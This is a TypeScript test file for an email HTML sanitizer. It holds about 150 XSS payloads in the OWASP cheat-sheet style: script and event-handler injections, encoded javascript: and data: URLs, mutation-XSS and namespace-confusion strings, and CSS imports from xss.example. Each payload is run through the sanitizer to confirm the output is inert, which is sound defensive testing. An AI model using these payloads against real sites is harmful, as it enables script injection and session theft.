import { parse } from "parse5";
import { describe, expect, it } from "vitest";
import { sanitizeMessageHtml } from "./sanitize";

const allowedTags = new Set(
  "p br div span b strong i em u s blockquote pre code ul ol li h1 h2 h3 h4 table thead tbody tr th td a hr img details summary".split(
    " ",
  ),
);
const allowedAttributes: Record<string, string[]> = {
  a: ["href", "title", "rel", "target"],
  td: ["colspan", "rowspan"],
  th: ["colspan", "rowspan"],
  img: ["data-src", "alt", "width", "height"],
  details: ["data-quote"],
};

/**
 * What a browser builds from the output, checked node by node with a different, spec-conformant
 * parser (parse5) and WHATWG URL parsing: only allowlisted elements and attributes, links with
 * http(s)/mailto and the fixed rel/target, no comments. Returns the problems found.
 */
function executableConstructs(output: string): string[] {
  const problems: string[] = [];
  const document = parse(`<!doctype html><html><head></head><body>${output}`);
  const body = (document.childNodes.at(-1) as any).childNodes.at(-1);
  const walk = (node: any) => {
    for (const child of node.childNodes ?? []) {
      if (child.nodeName === "#comment") problems.push(`comment ${child.data}`);
      if (child.tagName) {
        if (!allowedTags.has(child.tagName) || child.namespaceURI !== "http://www.w3.org/1999/xhtml")
          problems.push(`element <${child.tagName}>`);
        for (const { name, value } of child.attrs) {
          if (!allowedAttributes[child.tagName]?.includes(name))
            problems.push(`attribute ${name} on <${child.tagName}>`);
          if (name === "href") {
            let protocol = "invalid";
            try {
              // Resolved as the console's frame would; a scheme-less or broken URL fails too.
              protocol = new URL(value, "https://console.example/").protocol;
            } catch {}
            if (!["http:", "https:", "mailto:"].includes(protocol)) problems.push(`href ${value}`);
          }
          if (name === "rel" && value !== "noopener noreferrer nofollow") problems.push(`rel ${value}`);
          if (name === "target" && value !== "_blank") problems.push(`target ${value}`);
        }
        if (child.tagName === "a" && !child.attrs.some((attr: any) => attr.name === "rel"))
          problems.push("link without rel");
      }
      walk(child.content ?? child);
    }
  };
  walk(body);
  // The serializer's own shape: text without raw angle brackets, tags with double-quoted values only.
  const stripped = output.replace(/<\/?[a-z0-9]+(?: [a-z-]+="[^"<>]*")*>/g, "");
  if (/[<>]/.test(stripped)) problems.push(`stray angle bracket in ${stripped}`);
  return problems;
}

/** OWASP XSS filter-evasion cheat sheet style payloads, plus mutation and parser-differential ones. */
const payloads = [
  // script in all its spellings
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script/xss src=https://xss.example/xss.js></script>",
  "<<script>alert(1);//<</script>",
  "<script>alert(1)",
  "<script\n>alert(1)</script\n>",
  '<script a=">" src="https://xss.example/xss.js"></script>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  "<script>document.write('<img src=x onerror=alert(1)>')</script>",
  // event handlers
  "<img src=x onerror=alert(1)>",
  '<IMG SRC="javascript:alert(1);">',
  "<img src=javascript:alert(&quot;XSS&quot;)>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<img """><script>alert("XSS")</script>">',
  '<img src=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "<body onload=alert(1)>",
  "<BODY ONLOAD=alert('XSS')>",
  '<p onclick="alert(1)">click</p>',
  '<div onmouseover="alert(1)" style="width:100%;height:100%">hover</div>',
  "<b onmouseover=alert(1)>bold</b>",
  "<a onmouseover=alert(document.cookie)>xxs link</a>",
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</option></select>",
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>',
  '<td colspan="2" onclick="alert(1)">cell</td>',
  '<th rowspan="1 onmouseover=alert(1)">cell</th>',
  // javascript:, vbscript:, data: URLs, encoded and split
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\rscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java&#x0D;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#14;  javascript:alert(1)">x</a>',
  "<a href=javascript:alert(1)>x</a>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=`javascript:alert(1)`>x</a>",
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBSCRIPT:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/relative">x</a>',
  '<a href="javascript://https://ok.example/%0Aalert(1)">x</a>',
  '<a href="https:javascript:alert(1)" title="a">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="ja\u00advascript:alert(1)">x</a>',
  '<a href="javascript\\:alert(1)">x</a>',
  '<a href="&#106avascript:alert(1)">x</a>',
  '<a href="&#x26;#106;avascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  // style, CSS and imports
  "<style>@import 'https://xss.example/xss.css';</style>",
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<span style="behavior: url(xss.htc);">x</span>',
  "<link rel=stylesheet href=https://xss.example/xss.css>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<base href="javascript:alert(1)//">',
  // nesting, unclosed tags and quote breaking
  '<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
  '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>',
  '<a title="&quot;><script>alert(1)</script>" href="https://ok.example">x</a>',
  '<a href="https://ok.example/?q="><img src=x onerror=alert(1)>">x</a>',
  "<div><p><b><i><a href='https://ok.example'>deep",
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea></textarea><img src=x onerror=alert(1)>"></textarea>',
  '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<template><img src=x onerror=alert(1)></template>",
  "<iframe><img src=x onerror=alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  "<!DOCTYPE html><img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  '<a href="https://ok.example',
  "<a href=https://ok.example/ title=x onclick=alert(1)//>x",
  "<<b>>bold<</b>>",
  "<b <script>alert(1)</script>>x</b>",
  "<div/onclick=alert(1)>x</div>",
  "<div\x0Conclick=alert(1)>x</div>",
  "<p\u0000onclick=alert(1)>x</p>",
  "<a\u0000href=javascript:alert(1)>x</a>",
  '<a href="https://ok.example" href="javascript:alert(1)">dup</a>',
  '<a HREF="javascript:alert(1)" href="https://ok.example">dup</a>',
  "<p>1 &lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "<a href='https://ok.example'>a<a href='javascript:alert(1)'>b</a></a>",
  "<table><tr><td><script>alert(1)</script></td></tr></table>",
  "<table><img src=x onerror=alert(1)></table>",
  "<ul><li><svg><style><img src=x onerror=alert(1)></style></svg></li></ul>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<div id="1"><form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button></div>',
  "<isindex type=image src=1 onerror=alert(1)>",
  '<object><param name="src" value="javascript:alert(1)"></object>',
  '<applet code="javascript:alert(1)"></applet>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  "<html><head><title>t</title><script>alert(1)</script></head><body>text</body></html>",
];

describe("sanitizeMessageHtml: XSS corpus", () => {
  it.each(payloads)("leaves nothing executable: %s", (payload) => {
    const output = sanitizeMessageHtml(payload);
    expect(executableConstructs(output)).toEqual([]);
    // A second pass changes nothing: the output is already in the sanitizer's own shape.
    expect(sanitizeMessageHtml(output)).toBe(output);
  });

  it("keeps no handler, script, style or dangerous URL anywhere in the markup", () => {
    for (const payload of payloads) {
      const tags = sanitizeMessageHtml(payload).match(/<[^>]*>/g) ?? [];
      for (const tag of tags)
        expect(tag, payload).not.toMatch(
          /\son\w+=|style=|="\s*(javascript|vbscript|data|livescript):|<(script|style|svg|math|img|iframe)/i,
        );
    }
  });

  it("drops links it cannot prove safe but keeps their text", () => {
    expect(sanitizeMessageHtml('<a href="java&#x09;script:alert(1)">click</a>')).toBe(
      '<a rel="noopener noreferrer nofollow" target="_blank">click</a>',
    );
    expect(sanitizeMessageHtml('<a href="/relative">here</a>')).toBe(
      '<a rel="noopener noreferrer nofollow" target="_blank">here</a>',
    );
  });

  it("drops the contents of code, style, form-value and embedded-document elements", () => {
    expect(sanitizeMessageHtml("a<script>b</script>c<style>d</style>e<textarea>f</textarea>g")).toBe("aceg");
    expect(sanitizeMessageHtml("a<noscript>b</noscript>c<iframe>d</iframe>e<object>f</object>g")).toBe("aceg");
    expect(sanitizeMessageHtml("a<template>b</template>c<title>d</title>e<svg><text>f</text></svg>g")).toBe("aceg");
    expect(
      sanitizeMessageHtml("<html><head><title>Subject</title><style>p{}</style></head><body><p>Hi</p></body></html>"),
    ).toBe("<p>Hi</p>");
  });

  it("re-escapes text and attribute values", () => {
    expect(sanitizeMessageHtml("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>")).toBe("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>");
    expect(sanitizeMessageHtml("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")).toBe(
      "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    );
    expect(sanitizeMessageHtml(`<a href="https://ok.example/?a=1&b=2" title='"quoted" <x> &amp;'>x</a>`)).toBe(
      '<a href="https://ok.example/?a=1&amp;b=2" title="&quot;quoted&quot; &lt;x&gt; &amp;" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
  });

  it("drops comments, CDATA, doctypes and processing instructions", () => {
    expect(sanitizeMessageHtml("a<!-- hidden -->b<![CDATA[c]]>d<!DOCTYPE html>e<?xml version='1.0'?>f")).toBe("abdef");
  });
});

describe("sanitizeMessageHtml: formatting survives", () => {
  it("keeps inline and block formatting", () => {
    const html =
      "<h1>Title</h1><p>Hello <b>bold</b> <strong>strong</strong> <i>i</i> <em>em</em> <u>u</u> <s>s</s> <span>span</span></p>" +
      "<div><blockquote>quoted</blockquote><pre><code>let x = 1;</code></pre><hr><br></div>" +
      "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><h2>a</h2><h3>b</h3><h4>c</h4>";
    expect(sanitizeMessageHtml(html)).toBe(html);
  });

  it("keeps tables with their spans", () => {
    const html =
      '<table><thead><tr><th colspan="2">Head</th></tr></thead>' +
      '<tbody><tr><td rowspan="2">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>';
    expect(sanitizeMessageHtml(html)).toBe(html);
    expect(sanitizeMessageHtml('<table><tr><td colspan="x" width="9">a</td></tr></table>')).toBe(
      "<table><tr><td>a</td></tr></table>",
    );
  });

  it("keeps http, https and mailto links and makes them open safely", () => {
    expect(sanitizeMessageHtml('<a href="https://example.com/a" title="Docs" class="x">docs</a>')).toBe(
      '<a href="https://example.com/a" title="Docs" rel="noopener noreferrer nofollow" target="_blank">docs</a>',
    );
    expect(sanitizeMessageHtml('<a href="HTTP://example.com" rel="opener" target="_top">x</a>')).toBe(
      '<a href="HTTP://example.com" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(sanitizeMessageHtml('<a href="mailto:help@example.com">mail</a>')).toBe(
      '<a href="mailto:help@example.com" rel="noopener noreferrer nofollow" target="_blank">mail</a>',
    );
    // The message frame opens links as popups: whatever the mail says, only the fixed rel/target remain.
    expect(
      sanitizeMessageHtml('<A HREF="https://x.example" TARGET="_self" REL="opener" target="frame" rel="x">x</A>'),
    ).toBe('<a href="https://x.example" rel="noopener noreferrer nofollow" target="_blank">x</a>');
  });

  it("drops disallowed elements and attributes but keeps their text", () => {
    expect(sanitizeMessageHtml('<font color="red">Hi</font> <img src="x.gif">there')).toBe("Hi there");
    expect(sanitizeMessageHtml('<p class="x" style="color:red" id="y">para</p>')).toBe("<p>para</p>");
    expect(sanitizeMessageHtml("<form><label>Name</label><button>Send</button></form>")).toBe("NameSend");
  });

  it("keeps images inert: cid: and http(s) sources move to data-src, any other drops the image", () => {
    expect(sanitizeMessageHtml('<img src="cid:logo@mail" alt="Logo" width="120" height="x" onerror="alert(1)">')).toBe(
      '<img data-src="cid:logo@mail" alt="Logo" width="120">',
    );
    expect(sanitizeMessageHtml('a<img src="https://t.example/pixel.gif?u=1&amp;m=2">b')).toBe(
      'a<img data-src="https://t.example/pixel.gif?u=1&amp;m=2">b',
    );
    for (const src of [
      "javascript:alert(1)",
      "data:image/svg+xml,<svg onload=alert(1)>",
      "x.gif",
      "//t.example/p",
      "",
    ]) {
      expect(sanitizeMessageHtml(`a<img src="${src}">b`), src).toBe("ab");
    }
    expect(sanitizeMessageHtml('<img src="java&#x09;script:alert(1)"><img srcset="https://t.example/p 1x">')).toBe("");
    const output = sanitizeMessageHtml('<p><img src="cid:a" alt="&quot;><script>alert(1)</script>"></p>');
    expect(executableConstructs(output)).toEqual([]);
    expect(sanitizeMessageHtml(output)).toBe(output);
  });

  it("closes what it opens", () => {
    expect(sanitizeMessageHtml("<b>bold <i>both")).toBe("<b>bold <i>both</i></b>");
    expect(sanitizeMessageHtml("<p>one<p>two")).toBe("<p>one</p><p>two</p>");
    expect(sanitizeMessageHtml("text</b></div>")).toBe("text");
    expect(sanitizeMessageHtml("a<br/>b</br>c")).toBe("a<br>b<br>c");
  });
});
